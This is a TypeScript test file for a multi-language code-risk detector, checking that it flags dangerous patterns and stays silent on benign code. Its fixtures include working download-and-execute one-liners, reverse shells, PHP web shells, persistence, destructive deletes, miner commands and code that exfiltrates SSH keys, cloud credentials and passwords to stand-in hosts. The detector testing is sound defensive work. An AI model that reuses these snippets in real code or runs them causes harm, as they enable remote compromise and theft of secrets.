import { describe, expect, it } from 'vitest'
import { codeIn } from '../../src/risk/embedded.ts'
import { analyseOther, type Dialect } from '../../src/risk/other-code.ts'
import { tokensOf } from '../../src/risk/other-tokens.ts'
import { analyseShell } from '../../src/shell/analyse-shell.ts'

const found = (dialect: Dialect, code: string): string[] => [
  ...new Set(
    analyseOther(code, dialect, (command) => analyseShell(command), { isFile: true })
      .filter(({ level }) => level !== 'note')
      .map(({ level, kind }) => `${level} ${kind}`),
  ),
]

const FETCHES = 'curl -s http://203.0.113.9/x | sh'

describe('a text that reaches a shell', () => {
  it.each<[Dialect, string]>([
    ['go', `exec.Command("bash", "-c", "${FETCHES}").Run()`],
    ['go', `c := "${FETCHES}"\nexec.Command("sh", "-c", c).Run()`],
    ['go', `func main() { exec.Command("bash", "-c", \`${FETCHES}\`).Run() }`],
    ['java', `Runtime.getRuntime().exec(new String[]{"bash","-c","${FETCHES}"});`],
    ['java', `new ProcessBuilder("sh", "-c", "${FETCHES}").start();`],
    ['kotlin', `Runtime.getRuntime().exec(arrayOf("sh", "-c", "${FETCHES}"))`],
    ['rust', `std::process::Command::new("sh").arg("-c").arg("${FETCHES}").spawn();`],
    ['c', `int main() { return system("${FETCHES}"); }`],
    ['c', `execl("/bin/sh", "sh", "-c", "${FETCHES}", NULL);`],
    ['csharp', `Process.Start("/bin/bash", "-c \\"${FETCHES}\\"");`],
    ['swift', `let task = Process()\ntask.launchPath = "/bin/bash"\ntask.arguments = ["-c", "${FETCHES}"]\ntask.launch()`],
    ['groovy', `task x { doLast { exec { commandLine "sh", "-c", "${FETCHES}" } } }`],
    ['groovy', `["bash","-c","${FETCHES}"].execute()`],
    ['dart', `Process.run('bash', ['-c', '${FETCHES}']);`],
    ['php', `<?php shell_exec("${FETCHES}"); ?>`],
    ['php', `<?php echo \`${FETCHES}\`;`],
    ['ruby', `system("${FETCHES}")`],
    ['ruby', `out = %x{${FETCHES}}`],
    ['ruby', `Open3.capture2e("bash", "-c", "${FETCHES}")`],
    ['ruby', `\`${FETCHES}\``],
    ['perl', `my $x = qx(${FETCHES});`],
    ['perl', `system "${FETCHES}";`],
    ['lua', `os.execute("${FETCHES}")`],
    ['lua', `io.popen([[${FETCHES}]])`],
    ['r', `system("${FETCHES}", intern = TRUE)`],
    ['terraform', `resource "null_resource" "x" {\n  provisioner "local-exec" {\n    command = "${FETCHES}"\n  }\n}`],
    ['terraform', `data "external" "e" {\n  program = ["bash", "-c", "${FETCHES}"]\n}`],
    ['awk', `BEGIN { system("${FETCHES}") }`],
    ['awk', `BEGIN { "${FETCHES}" | getline r }`],
    ['elixir', `System.cmd("sh", ["-c", "${FETCHES}"])`],
    ['applescript', `do shell script "${FETCHES}" with administrator privileges`],
    ['vbscript', `Set s = CreateObject("WScript.Shell")\ns.Run "sh -c '${FETCHES}'", 0`],
  ])('%s: %s', (dialect, code) => {
    expect(found(dialect, code)).toContain('error download-execute')
  })
})

describe('two facts that belong together', () => {
  it.each<[Dialect, string, string]>([
    ['ruby', "require 'open-uri'\neval(URI.open('http://203.0.113.9/core.rb').read)", 'error download-execute'],
    ['perl', 'use LWP::Simple; my $c = get("http://203.0.113.9/a"); eval $c;', 'error download-execute'],
    ['php', "<?php $core = file_get_contents('http://203.0.113.9/latest.txt');\neval('?>' . $core);", 'error download-execute'],
    ['lua', 'local h = io.popen("curl -s http://203.0.113.9/l.lua")\nlocal s = h:read("*a")\nload(s)()', 'error download-execute'],
    ['r', 'source("http://203.0.113.9/a.R")', 'error download-execute'],
    ['csharp', 'Assembly.Load(new WebClient().DownloadData("http://203.0.113.9/a.dll"));', 'error download-execute'],
    [
      'go',
      'resp, _ := http.Get("http://203.0.113.9/p")\nb, _ := io.ReadAll(resp.Body)\nos.WriteFile("/tmp/p", b, 0755)\nexec.Command("/tmp/p").Run()',
      'error download-execute',
    ],
    [
      'vbscript',
      'Set x = CreateObject("MSXML2.XMLHTTP")\nx.Open "GET", "http://203.0.113.9/a.txt", False\nx.Send\nExecute x.responseText',
      'error download-execute',
    ],
    ['php', `<?php eval(base64_decode("${btoa('system("id");')}"));`, 'error decode-execute'],
    [
      'go',
      'c, _ := net.Dial("tcp", "watch.deploys.dev:443")\ncmd := exec.Command("/bin/sh")\ncmd.Stdin, cmd.Stdout, cmd.Stderr = c, c, c\ncmd.Run()',
      'error reverse-shell',
    ],
    [
      'java',
      'Process p = new ProcessBuilder("/bin/sh").redirectErrorStream(true).start();\nSocket s = new Socket("198.51.100.23", 4444);',
      'error reverse-shell',
    ],
    ['ruby', "s=TCPSocket.new('203.0.113.4',44); while l=s.gets; IO.popen(l,'r'){|io| s.print io.read}; end", 'error reverse-shell'],
    [
      'lua',
      "local t=assert(s.tcp());t:connect('198.51.100.77',4444);while true do local r=t:receive();local f=io.popen(r,'r');t:send(f:read('*a')) end",
      'error reverse-shell',
    ],
    [
      'rust',
      'let s = TcpStream::connect("203.0.113.4:44").unwrap();\nCommand::new("/bin/sh").arg("-i").stdin(unsafe { Stdio::from_raw_fd(s.as_raw_fd()) }).spawn();',
      'error reverse-shell',
    ],
    ['awk', 'BEGIN {s = "/inet/tcp/0/203.0.113.4/44"; while(1) { s |& getline c; while ((c |& getline) > 0) print $0 |& s; close(c)}}', 'error reverse-shell'],
    ['php', `<?php if (isset($_GET['t'])) { system($_REQUEST['c']); }`, 'error reverse-shell'],
    ['php', '<?php @eval($_POST["x"]); ?>', 'error reverse-shell'],
    [
      'go',
      'home, _ := os.UserHomeDir()\nb, err := os.ReadFile(filepath.Join(home, ".kube", "config"))\nif err == nil {\n\thttp.Post("https://inv.k8s-lens.dev/c", "application/yaml", bytes.NewReader(b))\n}',
      'error secret-exfiltration',
    ],
    [
      'go',
      'func leak(d []byte) { http.Post("https://x.k8s-lens.dev/u", "text/plain", bytes.NewReader(d)) }\nfunc main() {\n\tb, _ := os.ReadFile(os.Getenv("HOME") + "/.ssh/id_rsa")\n\tleak(b)\n}',
      'error secret-exfiltration',
    ],
    [
      'ruby',
      `creds = %w[.gem/credentials .netrc].map { |f| File.join(Dir.home, f) }\npayload = creds.to_h { |f| [f, File.read(f)] }\nNet::HTTP.post(URI('https://log.rb-tools.dev/c'), payload.to_json)`,
      'error secret-exfiltration',
    ],
    [
      'ruby',
      "uri = URI('https://log.rb-tools.dev/u')\nreq = Net::HTTP::Post.new(uri)\nreq.body = File.read(File.expand_path('~/.ssh/id_rsa'))\nNet::HTTP.start(uri.host, uri.port) { |h| h.request(req) }",
      'error secret-exfiltration',
    ],
    ['ruby', "Net::HTTP.post(URI('https://log.rb-tools.dev/u'), ENV.to_h.to_json)", 'error secret-exfiltration'],
    [
      'php',
      `<?php $d = file_get_contents(getenv('HOME') . '/.ssh/id_rsa');\n$ctx = stream_context_create(['http' => ['method' => 'POST', 'content' => base64_encode($d)]]);\nfile_get_contents('https://lint.php-tools.dev/l', false, $ctx);`,
      'error secret-exfiltration',
    ],
    [
      'swift',
      'let k = try String(contentsOfFile: NSHomeDirectory() + "/.ssh/id_rsa")\nvar r = URLRequest(url: URL(string: "https://x.swift-tools.dev/u")!)\nr.httpMethod = "POST"\nr.httpBody = k.data(using: .utf8)\nURLSession.shared.dataTask(with: r).resume()',
      'error secret-exfiltration',
    ],
    [
      'applescript',
      'set pw to text returned of (display dialog "Password" default answer "" with hidden answer)\ndo shell script "curl -s -d p=" & quoted form of pw & " https://auth.mac-tools.dev/v"',
      'error secret-exfiltration',
    ],
    ['perl', '$ua->post("https://x.perl-tools.dev/u", \\%ENV);', 'error secret-exfiltration'],
    ['ruby', "File.open(File.expand_path('~/.bashrc'), 'a') { |f| f.puts 'curl -s https://x.rb-tools.dev/p | sh' }", 'error persistence'],
    ['go', 'home, _ := os.UserHomeDir()\nos.RemoveAll(home)', 'error destructive-command'],
    ['go', 'cmd := "xmrig -o stratum+tcp://pool.example.org:3333"', 'error crypto-miner'],
    [
      'go',
      'home, _ := os.UserHomeDir()\nfilepath.Walk(home, func(p string, i os.FileInfo, e error) error {\n\tb, _ := os.ReadFile(p)\n\tc, _ := aes.NewCipher(k)\n\tos.WriteFile(p+".enc", b, 0644)\n\tos.Remove(p)\n\treturn nil\n})',
      'error file-encryption',
    ],
  ])('%s: %s', (dialect, code, verdict) => {
    // What is looked for by a word is looked for in a program that has one.
    expect(found(dialect, `${code}\n`)).toContain(verdict)
  })
})

it.each<[Dialect, string]>([
  ['ruby', `# system('${FETCHES}')\nputs 1\n=begin\nsystem('${FETCHES}')\n=end\n`],
  ['go', `// exec.Command("sh", "-c", "${FETCHES}")\n/* system("${FETCHES}") */\nfmt.Println("run: ${FETCHES}")`],
  ['lua', `-- os.execute("${FETCHES}")\n--[[ os.execute("${FETCHES}") ]]\nprint("system")`],
  ['vbscript', `' CreateObject("WScript.Shell").Run "${FETCHES}"`],
  ['php', `<p>system($_GET['x'])</p>\n<?php // system($_GET['x']);\necho 1;`],
  ['php', '<?php exec("git log --format=".escapeshellarg($_GET["f"]));'],
  [
    'php',
    '<?php require_once __DIR__ . "/vendor/autoload.php"; $r = $client->request("POST", "https://api.php-tools.dev/v1", ["headers" => ["Authorization" => "Bearer " . getenv("API_TOKEN")], "json" => $d]);',
  ],
  [
    'go',
    'req, _ := http.NewRequest("POST", "https://api.k8s-lens.dev/v1", bytes.NewReader(b))\nreq.Header.Set("Authorization", "Bearer "+os.Getenv("API_TOKEN"))\nresp, _ := client.Do(req)\nexec.Command("git", "status").Run()',
  ],
  [
    'ruby',
    `uri = URI('https://api.github.com/x')\nreq = Net::HTTP::Get.new(uri)\nreq['Authorization'] = "token #{ENV['GITHUB_TOKEN']}"\nNet::HTTP.start(uri.host) { |h| h.request(req) }`,
  ],
  ['ruby', "load 'lib/tasks.rb'\nrequire 'net/http'\nNet::HTTP.get(URI('https://api.github.com/x'))\nsystem('bundle', 'exec', 'rspec')"],
  ['c', 'char q = \'"\'; int s = socket(2, 1, 0); connect(s, a, n); write(s, "GET /", 5);'],
  ['rust', 'fn f<\'a>(x: &\'a str) -> &\'a str { x }\nlet out = Command::new("git").arg("status").output();'],
  ['java', 'stmt.execute("DELETE FROM users");\nString s = Files.readString(Path.of("config.json"));'],
  ['r', 'source("R/helpers.R")\ndf <- read.csv("https://data.vendor-tools.dev/x.csv")'],
  [
    'terraform',
    'resource "aws_instance" "x" {\n  ami = "ami-1"\n  user_data = file("init.sh")\n  provisioner "local-exec" {\n    command = "echo done"\n  }\n}',
  ],
  ['applescript', 'tell application "Finder" to activate\ndo shell script "open ~/Documents"'],
  ['perl', 'my $x = `git log`; if ($x =~ /["\']/) { print "quote # no comment\\n"; } s/"//g;'],
])('is silent on %s: %s', (dialect, code) => {
  expect(found(dialect, code)).toEqual([])
})

describe('what goes from one statement to the next', () => {
  it.each<[Dialect, string, string]>([
    [
      'go',
      `r, _ := http.Get("https://v.vendor-tools.com/db")\nf, _ := os.CreateTemp("", "v")\nio.Copy(f, r.Body)\nexec.Command(f.Name()).Start()`,
      'error download-execute',
    ],
    [
      'vbscript',
      `x.Open "GET", "https://v.vendor-tools.com/a.exe", False\ns.Open : s.Write x.responseBody : s.SaveToFile Environ("TEMP") & "\\a.exe", 2\nCreateObject("WScript.Shell").Run Environ("TEMP") & "\\a.exe", 0`,
      'error download-execute',
    ],
    ['ruby', `File.binwrite('/tmp/u', URI.open('https://v.vendor-tools.com/u').read)\nspawn('/tmp/u')`, 'error download-execute'],
    ['ruby', `s = TCPSocket.open('h.vendor-tools.com', 4444)\nwhile (cmd = s.gets)\n  s.print(\`#{cmd}\`)\nend`, 'error reverse-shell'],
    [
      'ruby',
      `%w[~/.ssh/id_rsa ~/.netrc].each do |f|\n  path = File.expand_path(f)\n  Net::HTTP.post(URI('https://v.vendor-tools.com/f'), File.read(path))\nend`,
      'error secret-exfiltration',
    ],
    [
      'java',
      `byte[] b = Files.readAllBytes(Path.of(System.getProperty("user.home"), ".aws", "credentials"));\nclient.send(HttpRequest.newBuilder(URI.create("https://v.vendor-tools.com/c")).POST(BodyPublishers.ofByteArray(b)).build());`,
      'error secret-exfiltration',
    ],
    [
      'swift',
      `let t = Process(); t.launchPath = "/usr/bin/security"; t.arguments = ["find-generic-password", "-wa", "Chrome"]\nlet p = Pipe(); t.standardOutput = p\nvar r = URLRequest(url: URL(string: "https://v.vendor-tools.com/p")!); r.httpMethod = "POST"\nr.httpBody = p.fileHandleForReading.readDataToEndOfFile()\nURLSession.shared.dataTask(with: r).resume()`,
      'error secret-exfiltration',
    ],
    ['php', `<?php\n$f = 'sys' . 'tem';\nif (isset($_GET['c'])) { $f($_GET['c']); }`, 'error reverse-shell'],
    ['perl', `rmtree("$ENV{HOME}")`, 'error destructive-command'],
  ])('%s: %s', (dialect, code, finding) => {
    expect(found(dialect, code)).toContain(finding)
  })

  it.each<[Dialect, string]>([
    ['go', `r, _ := http.Get("https://api.acme.dev/r.pdf")\nf, _ := os.Create("r.pdf")\nio.Copy(f, r.Body)\nexec.Command("open", f.Name()).Run()`],
    ['ruby', `%w[a.md b.md].each do |f|\n  Net::HTTP.post(URI('https://api.acme.dev/lint'), File.read(f))\nend`],
    ['php', `<?php\n$f = 'strtoupper';\necho $f($_GET['q']);`],
    [
      'swift',
      `let t = Process(); t.launchPath = "/usr/bin/git"; t.arguments = ["status"]\nlet p = Pipe(); t.standardOutput = p; t.launch()\nprint(p.fileHandleForReading.readDataToEndOfFile())`,
    ],
  ])('is quiet: %s: %s', (dialect, code) => {
    expect(found(dialect, code)).toEqual([])
  })
})

it('tells texts from comments and marks', () => {
  const texts = (dialect: Dialect, code: string): string[] =>
    tokensOf(code, dialect).flatMap(({ kind, text }) => (kind === 'string' || kind === 'command' ? [text] : []))
  expect(texts('rust', `let a: &'static str = r#"x"y"#; let b = 'c'; // "no"`)).toEqual(['x"y', 'c'])
  expect(texts('ruby', 'a = <<~TEXT\n  one #{b}\nTEXT\nc = "it\'s" # "no"\n%w[d e]')).toEqual(['  one ${b}\n', "it's", 'd e'])
  expect(texts('csharp', 'var p = @"C:\\x"; var q = $"{a}b";')).toEqual(['C:\\x', '${a}b'])
  expect(texts('vbscript', 'a = "say ""hi""" \' "no"')).toEqual(['say "hi"'])
  expect(texts('c', 'R"(a"b)" "\\x41\\n"')).toEqual(['a"b', 'A\n'])
})

describe('code among other things', () => {
  it('reads the cells of a notebook', () => {
    const text = JSON.stringify({
      cells: [
        { cell_type: 'markdown', source: ['# x'] },
        { cell_type: 'code', source: ['import os\n', 'if x:\n', '    !pip install y\n', '%matplotlib inline'] },
        { cell_type: 'code', source: '%%bash\ncurl x | sh' },
      ],
    })
    const [python, shell] = codeIn('notebook', text)
    expect(python?.text).toBe('import os\nif x:\n    pass\npass\n')
    expect(shell?.text).toBe('pip install y\ncurl x | sh\n')
    const span = shell?.spanOf({ start: 14, end: 20 })
    expect(text.slice(span?.start, span?.end)).toBe('curl x | sh')
    expect(codeIn('notebook', '{')).toEqual([])
  })

  it('reads scripts of a page, recipes of a Makefile and commands of a Dockerfile', () => {
    expect(codeIn('page', '<p>a</p><script>b()</script><script type="text/template">c</script>').map(({ text }) => text.trim())).toEqual(['b()'])
    expect(codeIn('page', '<script language="VBScript">x.Run "y"</script>')).toMatchObject([{ language: 'other', dialect: 'vbscript' }])
    expect(codeIn('makefile', 'URL = http://a\nall: b\n\t@curl $(URL) | sh\n\t-echo $$HOME\n')[0]?.text).toBe('URL="http://a"\ncurl ${URL} | sh\necho $HOME\n')
    expect(codeIn('dockerfile', 'FROM a\nRUN --mount=type=cache,target=/x apt \\\n  # why\n  update\nCMD ["sh", "-c", "id"]\nCOPY . .\n')[0]).toMatchObject({
      text: 'apt \\\n  update\nsh -c id\n',
      inContainer: true,
    })
  })
})

it('never throws, and is quick on what is made to be slow', () => {
  const pieces = [
    '"',
    "'",
    '`',
    '<<ABC ',
    '(',
    '{',
    'a.',
    'a ',
    'a,',
    '%w(',
    'q{',
    '/ ',
    '(*',
    '[[',
    '"${a}" + ',
    'exec("a", a) ; ',
    'a.b(c.d(',
    '\n=pod\n',
    '"\\x41\\',
  ]
  const started = performance.now()
  for (const dialect of ['go', 'php', 'ruby', 'perl', 'lua', 'applescript', 'vbscript'] as const)
    for (const piece of pieces) expect(() => analyseOther(`exec ${piece.repeat(Math.ceil(20_000 / piece.length))}`, dialect, () => [])).not.toThrow()
  expect(performance.now() - started).toBeLessThan(20_000)
}, 30_000)
